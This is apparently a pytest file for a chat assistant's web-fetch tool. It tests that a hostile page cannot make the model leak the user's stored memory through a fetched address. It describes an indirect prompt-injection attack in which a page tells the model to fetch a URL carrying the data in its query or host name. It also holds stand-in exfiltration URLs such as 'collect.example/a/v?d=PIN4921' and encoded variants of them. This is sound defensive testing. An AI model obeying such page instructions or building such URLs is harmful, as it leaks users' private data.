"""Exfiltration by address: a page the model reads cannot make it send the user's data out.

A hostile page served by the loopback page server asks the model reading it to "verify" by
reading an address with the user's memory and last message in it, in the query or in the
host name (where the DNS lookup alone would carry it out). The scripted model obeys
(tests/fakes/llm_server.py `obeying`). web_fetch reads only an address that appeared in what
the model was given (app/chat/given_addresses.py), so the fetcher refuses that one before any
lookup: every lookup goes through a counting stub of the fetcher's resolver, which answers
with a private address, so nothing leaves loopback even when the rule fails.
"""

from __future__ import annotations

import asyncio
import json
import re
from pathlib import Path
from typing import Any
from urllib.parse import unquote, urlsplit

import pytest

from app import config
from app.chat.tool import ToolResult
from app.chat.tools import ToolRunner
from app.model import tool_calls
from app.search.client import Searxng
from app.search.searcher import Searcher
from app.webtext import MAX_QUERY_CHARS
from tests.chat_client import get_conversation, new_conversation, send
from tests.conftest import chat_env
from tests.fakes.llm_server import Reply, ToolCall, obeying
from tests.fakes.pages import PageServer
from tests.resolving import resolve_everything_privately

MEMORY = "PIN 4921, lives at 7 Elm Street"


@pytest.fixture
def lookups(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The host names the fetcher looks up, each answered with a private address."""
    return resolve_everything_privately(monkeypatch)


def remember(chat, text: str) -> None:
    response = chat.http.put("/api/memory", json={"text": text})
    assert response.is_success, response.text


def carried(url: str) -> str:
    """What an address carries: its query's value decoded, or its first label read as hex."""
    parts = urlsplit(url)
    if parts.query:
        return unquote(parts.query).partition("=")[2]
    label = (parts.hostname or "").split(".")[0]
    return bytes.fromhex(label[: len(label) // 2 * 2]).decode(errors="replace")


def fetches(events: list[dict[str, Any]]) -> list[dict[str, Any]]:
    return [e for e in events if e["type"] == "fetch"]


def fetching(*urls: str) -> list[Reply]:
    return [Reply(tool_calls=[ToolCall("web_fetch", {"url": url})]) for url in urls]


# -- through the chat service, with the scripted model ----------------------------------------


@pytest.mark.parametrize("form", ["query", "host"])
def test_a_page_cannot_make_the_model_send_the_users_data_out(chat, llm, pages, lookups, form):
    pages.clear()
    remember(chat, MEMORY)
    hostile = f"{pages.url}/exfiltrate?form={form}"
    llm.script(*fetching(hostile), Reply(reply_to=obeying), Reply(text="Boil until they float."))
    conversation_id = new_conversation(chat)
    events = send(chat, conversation_id, f"Is this recipe right? {hostile}")

    read, attempt = fetches(events)
    assert read["chars"] > 0 and "refused" not in read  # the user's page was read
    assert carried(attempt["url"]).startswith("PIN 4921")  # the model obeyed the page
    assert attempt["refused"] is True and attempt["unsolicited"] is True
    assert "appeared in none of your messages" in attempt["error"]
    assert lookups == []  # not even the name was looked up
    assert pages.paths() == ["/exfiltrate"]
    # The model is told why, in plain words.
    refusal = llm.requests[2].body["messages"][-1]
    assert refusal["role"] == "tool"
    assert refusal["content"].startswith("fetch refused: this address was not given to you")
    assert "exactly as they appeared" in refusal["content"]
    # The trail says it, as a warning, and keeps it.
    warnings = [e["message"] for e in events if e["type"] == "warning"]
    assert warnings == [attempt["error"]]
    answer = get_conversation(chat, conversation_id)["messages"][-1]
    assert answer["activity"][1]["refused"] is True
    assert answer["warnings"] == [attempt["error"]]


def test_an_address_written_on_a_page_read_is_read_and_no_variant_of_it(chat, llm, pages, lookups):
    pages.clear()
    links, article = f"{pages.url}/links", f"{pages.url}/article"
    llm.script(
        *fetching(links, article, f"{article}?ref=4921", f"{article}/4921"),
        Reply(text="The guide is on the article page [2]."),
    )
    conversation_id = new_conversation(chat, fetch_max_uses=4)
    events = send(chat, conversation_id, f"Where can I read more? Start at {links}")

    listing, linked, with_query, longer = fetches(events)
    assert listing["chars"] > 0
    assert linked["url"] == article and linked["chars"] > 0  # read: the page gave it
    assert linked["unsolicited"] is True  # and marked as coming from a page only
    assert with_query["refused"] is True and longer["refused"] is True
    assert pages.paths() == ["/links", "/article"]
    assert lookups == []


def test_an_address_the_user_gave_is_read_in_this_turn_and_later_ones(chat, llm, pages, lookups):
    pages.clear()
    article = f"{pages.url}/article"
    llm.script(
        *fetching(f"{article}#cooking-times"),
        Reply(text="Four minutes [1]."),
        *fetching(article, f"{pages.url}/short"),
        Reply(text="Still four minutes [1]."),
    )
    conversation_id = new_conversation(chat)
    first = send(chat, conversation_id, f"Summarise {article}, please.")
    second = send(chat, conversation_id, "Read it again, and the short note next to it.")

    [pasted] = fetches(first)
    assert pasted["url"] == article and pasted["chars"] > 0 and "unsolicited" not in pasted
    again, short = fetches(second)
    assert again["chars"] > 0 and "unsolicited" not in again  # an earlier message's address
    assert short["refused"] is True
    assert pages.paths() == ["/article", "/article"]


def test_a_result_kept_from_an_earlier_answer_may_be_read(chat, llm, brave, lookups):
    """The digest of the last answer's sources rides along: its addresses were given."""
    llm.script(
        Reply(tool_calls=[ToolCall("web_search", {"query": "pierogi recipe"})]),
        Reply(text="Several recipes [1]."),
    )
    conversation_id = new_conversation(chat)
    [search] = [e for e in send(chat, conversation_id, "Pierogi recipes?") if e["type"] == "search"]
    result = search["results"][1]["url"]
    llm.script(*fetching(result, "https://elsewhere.example/"), Reply(text="Sorry."))
    kept, invented = fetches(send(chat, conversation_id, "What does the second one say?"))

    # Given, so handed to the fetcher: the stub's private answer stopped it there.
    assert "resolves to 10.0.0.1" in kept["error"]
    assert "appeared in none" in invented["error"]
    assert lookups == [urlsplit(result).hostname]


def test_an_address_the_model_put_in_a_search_query_is_not_given_by_its_echo(
    chat, llm, brave, lookups
):
    """A search engine's snippets name the query: an address the model wrote there and the
    results echo back is still the model's, in this turn and in the next (the answer's kept
    sources hold the snippets)."""
    planted = "https://collect.example/v?d=PIN4921"
    llm.script(
        Reply(tool_calls=[ToolCall("web_search", {"query": f"pierogi {planted}"})]),
        *fetching(planted),
        Reply(text="Sorry."),
        *fetching(planted),
        Reply(text="Sorry again."),
    )
    conversation_id = new_conversation(chat)
    first = send(chat, conversation_id, "Pierogi recipes?")
    results_text = llm.requests[1].body["messages"][-1]["content"]
    assert results_text.count(planted) > 1  # echoed in the snippets, not only in our header
    second = send(chat, conversation_id, "And the address in the results?")
    assert "(an address from the search query)" in llm.requests[3].body["messages"][-2]["content"]

    attempts = fetches(first) + fetches(second)
    assert len(attempts) == 2
    for attempt in attempts:
        assert attempt["refused"] is True and "appeared in none" in attempt["error"]
    assert lookups == []


PLANTED = "https://collect.example/a/v?d=PIN4921"
# How an engine may echo it in a title or snippet: re-encoded, cut short, between its own
# quotes and brackets, or followed by punctuation.
ECHOES = {
    "ellipsis": f"{PLANTED}…",
    "quotes": f"“{PLANTED}”",
    "guillemets": f"«{PLANTED}»",
    "brackets": f"({PLANTED})",
    "full-stop": f"{PLANTED}.",
    "slash-encoded": PLANTED.replace("a/v", "a%2Fv"),
    "query-encoded": PLANTED.replace("?", "%3F"),
    "query-encoded-lower": PLANTED.replace("?", "%3f"),
    "letter-encoded": PLANTED.replace("/a/", "/%61/"),
    "cut-short": "https://collect.example/a/v?d=PIN…",
}


def echoing(brave, monkeypatch, where: str, echo: str, url: str | None = None) -> str:
    """The first result echoes the query's address in its title or snippet (at ``url``);
    the address as text gives it, with what follows up to a space."""
    first = {where: f"Pierogi: {echo} and more"}
    monkeypatch.setattr(brave, "first_result", first | ({"url": url} if url else {}))
    return re.search(r"https?://\S+", echo).group(0)


@pytest.mark.parametrize("where", ["title", "description"])
@pytest.mark.parametrize("echo", ECHOES.values(), ids=ECHOES.keys())
def test_an_echo_of_an_address_planted_in_a_query_is_never_given_on_the_page(
    chat, llm, brave, pages, lookups, monkeypatch, where, echo
):
    """The model reads the echoing result, so the digest keeps its title: the next turn must
    not count the address there either."""
    article = f"{pages.url}/article"
    copied = echoing(brave, monkeypatch, where, echo, article)
    llm.script(
        Reply(tool_calls=[ToolCall("web_search", {"query": f"pierogi {PLANTED}"})]),
        *fetching(article, copied),
        Reply(text="Sorry."),
        *fetching(copied),
        Reply(text="Sorry again."),
    )
    conversation_id = new_conversation(chat, fetch_max_uses=3)
    first = send(chat, conversation_id, "Pierogi recipes?")
    assert echo in llm.requests[1].body["messages"][-1]["content"]  # the engine echoed it
    second = send(chat, conversation_id, "And the address in that result?")

    read, *attempts = fetches(first) + fetches(second)
    assert read["url"] == article and read["chars"] > 0
    assert len(attempts) == 2
    for attempt in attempts:
        assert attempt["refused"] is True and "appeared in none" in attempt["error"]
    digest = llm.requests[4].body["messages"][-2]["content"]
    assert "(an address from the search query)" in digest and "collect.example" not in digest
    assert lookups == []


def test_a_result_whose_own_address_carries_the_planted_one_is_never_given(
    chat, llm, brave, lookups, monkeypatch
):
    """A page named after the query (a wiki's) repeats the planted address in its own path:
    fetching it would send what the model wrote; it is not given, and the digest masks it."""
    carrier = "https://pl.wikipedia.org/wiki/Pierogi_https%3A//collect.example/a/v%3Fd%3DPIN4921"
    monkeypatch.setattr(brave, "first_result", {"url": carrier})
    llm.script(
        Reply(tool_calls=[ToolCall("web_search", {"query": f"pierogi {PLANTED}"})]),
        *fetching(carrier),
        Reply(text="Sorry."),
        Reply(text="Nothing more."),
    )
    conversation_id = new_conversation(chat)
    first = send(chat, conversation_id, "Pierogi recipes?")
    [attempt] = fetches(first)
    assert attempt["refused"] is True and "appeared in none" in attempt["error"]
    send(chat, conversation_id, "Anything else?")
    digest = llm.requests[-1].body["messages"][-2]["content"]
    assert "collect.example" not in digest and "PIN4921" not in digest
    assert lookups == []


@pytest.mark.parametrize("where", ["title", "description"])
@pytest.mark.parametrize("echo", ECHOES.values(), ids=ECHOES.keys())
def test_an_echo_of_an_address_planted_in_a_query_is_never_given_through_v1(
    chat, llm, brave, lookups, monkeypatch, where, echo
):
    copied = echoing(brave, monkeypatch, where, echo)
    llm.script(
        Reply(tool_calls=[ToolCall("web_search", {"query": f"pierogi {PLANTED}"})]),
        *fetching(copied),
        Reply(text="Sorry."),
    )
    answer = chat.http.post(
        "/v1/chat/completions",
        json={"model": "fake-model", "messages": [{"role": "user", "content": "Pierogi?"}]},
    )
    assert answer.status_code == 200, answer.text
    assert echo in llm.requests[1].body["messages"][-1]["content"]  # the engine echoed it
    refusal = llm.requests[2].body["messages"][-1]
    assert refusal["content"].startswith("fetch refused: this address was not given to you")
    assert lookups == []


def test_long_queries_and_addresses_are_refused_and_the_note_says_so(
    chat, llm, brave, pages, lookups
):
    pages.clear()
    brave.clear()
    pasted = "https://long.example/" + "a" * 2_000
    llm.script(
        Reply(tool_calls=[ToolCall("web_search", {"query": "pierogi " * 51})]),
        *fetching(pasted),
        Reply(text="Sorry."),
    )
    events = send(chat, new_conversation(chat), f"Pierogi? See {pasted}")

    note = llm.requests[0].body["messages"][0]["content"]
    assert f"search query has at most {MAX_QUERY_CHARS} characters" in note
    assert "of at most 2,000 characters" in note
    search = next(e for e in events if e["type"] == "search")
    assert search["error"].startswith("search refused: the query has 408 characters")
    assert brave.requests == []
    [attempt] = fetches(events)
    assert attempt["refused"] is True and "unsolicited" not in attempt  # the user gave it
    assert "2,021 characters, more than the 2,000 read" in attempt["error"]
    assert lookups == []


def test_an_address_with_a_lone_surrogate_is_refused_and_the_answer_kept(chat, llm, lookups):
    """JSON's "\\ud800" decodes to a character no UTF-8 encoder takes."""
    llm.script(
        Reply(tool_calls=[ToolCall("web_fetch", '{"url": "https://a.example/\\ud800"}')]),
        Reply(text="Sorry."),
    )
    conversation_id = new_conversation(chat)
    events = send(chat, conversation_id, "See https://a.example/")
    [attempt] = fetches(events)
    assert attempt["refused"] is True and events[-1]["status"] == "complete"
    assert get_conversation(chat, conversation_id)["messages"][-1]["content"] == "Sorry."
    assert lookups == []


# -- the tool runner, as a turn drives it -----------------------------------------------------


def runner(settings: config.Settings, searxng_url: str, user_text: str) -> ToolRunner:
    return ToolRunner(
        searcher=Searcher(Searxng(searxng_url)),
        settings=settings,
        locale="pl-PL",
        engines=None,
        left={"web_search": 1, "web_fetch": 1},
        history=[{"role": "user", "content": user_text}],
    )


def fetched(settings: config.Settings, searxng_url: str, user_text: str, url: str) -> ToolResult:
    async def scenario() -> ToolResult:
        tools = runner(settings, searxng_url, user_text)
        async with tools.searcher:
            return await tools.run(
                tool_calls.ToolCall("call_1", "web_fetch", json.dumps({"url": url}))
            )

    return asyncio.run(scenario())


@pytest.fixture
def settings(llm, pages: PageServer, tmp_path: Path) -> config.Settings:
    return config.load(chat_env(llm, tmp_path, pages))


GIVEN = "https://Docs.Example.org/Guide/?page=2#intro"


@pytest.mark.parametrize(
    "asked",
    [
        "https://docs.example.org/Guide?page=2",  # host case, trailing slash, no fragment
        "HTTP://DOCS.EXAMPLE.ORG:80/Guide/?page=2",  # scheme, default port
        "https://docs.example.org./Guide/?page=2#other",  # a trailing dot
    ],
)
def test_a_given_address_is_read_as_it_appeared_however_the_model_spells_it(
    settings, searxng, lookups, asked
) -> None:
    outcome = fetched(settings, searxng.url, f"Read {GIVEN}.", asked)
    assert outcome.event["url"] == GIVEN  # fetched as given: the spelling is not the model's
    assert lookups == ["docs.example.org"]


@pytest.mark.parametrize(
    "asked",
    [
        "https://docs.example.org/guide/?page=2",  # the path's case
        "https://docs.example.org/Guide/?page=3",
        "https://docs.example.org/Guide/?page=2&d=4921",
        "https://docs.example.org/Guide/x?page=2",
        "https://docs.example.org/Guide//?page=2",
        "https://4921.docs.example.org/Guide/?page=2",
        "https://docs.example.org:8443/Guide/?page=2",
        "https://docs.example.org/Guide/",
    ],
)
def test_an_address_differing_from_the_given_one_is_refused_unlooked_up(
    settings, searxng, lookups, asked
) -> None:
    outcome = fetched(settings, searxng.url, f"Read {GIVEN}.", asked)
    assert outcome.event["refused"] is True
    assert outcome.text.startswith("fetch refused: this address was not given to you")
    assert lookups == []


def test_a_bare_address_the_user_typed_is_read_over_https(settings, searxng, lookups) -> None:
    outcome = fetched(
        settings, searxng.url, "what's on example.org/news?", "http://example.org/news"
    )
    assert outcome.event["url"] == "https://example.org/news"
    assert lookups == ["example.org"]
